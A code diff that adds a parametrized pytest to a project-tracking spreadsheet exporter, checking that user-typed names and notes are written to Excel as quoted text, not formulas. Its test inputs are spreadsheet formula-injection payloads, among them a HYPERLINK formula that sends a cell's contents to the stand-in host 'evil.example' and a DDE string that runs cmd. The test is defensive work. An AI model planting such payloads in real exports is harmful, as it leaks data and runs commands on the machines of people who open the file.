@@ -156,3 +156,21 @@ def test_the_baseline_colour_and_the_re_plan_count_are_beside_the_colour(make_pr
     assert replanned[columns["基准预警等级"] - 1].fill.fgColor.rgb == MILESTONE_FILLS["red"]
     steady = row_of(sheet, "QT-0010")
     assert (value(steady, "基准预警等级"), value(steady, "调整计划次数")) == ("绿", None)
+
+
+@pytest.mark.parametrize("typed", [
+    '=HYPERLINK("http://evil.example/?x="&B3,"click for details")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A2)",
+])
+def test_every_text_a_user_typed_goes_out_as_text_never_a_formula(make_project, today, typed):
+    make_project("QT-0009", name=typed, open_problems=typed, progress_note=typed)
+    recompute_all(today=today)
+    sheet = reopen(build_workbook(Project.objects.all()))
+    columns = header_index(sheet)
+    row = row_of(sheet, "QT-0009")
+    for header in ("项目名称", "进展情况", "存在问题"):
+        cell = row[columns[header] - 1]
+        assert (cell.value, cell.data_type) == (typed, "s"), header
+        assert cell.quotePrefix, header  # stays text when the office edits the cell
